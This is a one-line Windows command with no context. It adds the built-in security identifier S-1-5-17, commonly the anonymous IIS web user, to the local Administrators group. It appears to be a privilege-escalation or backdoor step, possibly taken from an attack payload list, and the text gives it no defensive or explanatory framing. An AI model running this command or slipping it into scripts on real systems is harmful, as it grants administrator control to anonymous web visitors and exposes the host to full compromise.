net localgroup Administrators S-1-5-17 /add
